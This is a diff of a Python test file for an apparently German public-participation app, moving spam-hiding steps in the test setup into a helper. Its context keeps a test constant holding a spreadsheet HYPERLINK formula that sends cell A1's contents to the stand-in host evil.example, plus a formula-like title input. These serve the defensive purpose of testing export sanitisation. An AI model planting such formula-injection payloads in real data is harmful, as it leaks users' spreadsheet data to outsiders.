@@ -15,10 +15,9 @@ from participation.admin.services import block_user
 from participation.comments.services import add_comment
 from participation.drafts import services as drafts
 from participation.incorporation import services as incorporation
-from participation.moderation import services as moderation
 from participation.proposals import services as proposals
 from tests.conftest import Browser, logged_in
-from tests.drafting import first_paragraph, open_phase
+from tests.drafting import first_paragraph, hide_as_spam, open_phase
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'
 
@@ -36,9 +35,7 @@ def data(db, users, draft):
     proposals.answer(planner, accepted, "accepted", "Ja, kommt in Kapitel 1.")
     hostile = proposals.submit(firma, HOSTILE, "-1+1 und @mention", "open_data")
     hidden = proposals.submit(anna, "Versteckter Vorschlag", "Wird ausgeblendet.", "education")
-    moderation.report(firma, hidden, "spam")
-    decision = moderation.Decision("reported", "hide", "spam", note="Nennt Telefon 0221-555 von Frau X")
-    assert moderation.decide(_moderator(db), hidden, decision) is None
+    hide_as_spam(_moderator(db), firma, hidden, note="Nennt Telefon 0221-555 von Frau X")
     block_user(_moderator(db), anna_twin(db, users), "Wiederholt beleidigend", None)
     on_hidden = add_comment(firma, "Kommentar unter dem Versteckten", None, proposal=hidden)
     on_hidden.answer_status = "accepted"
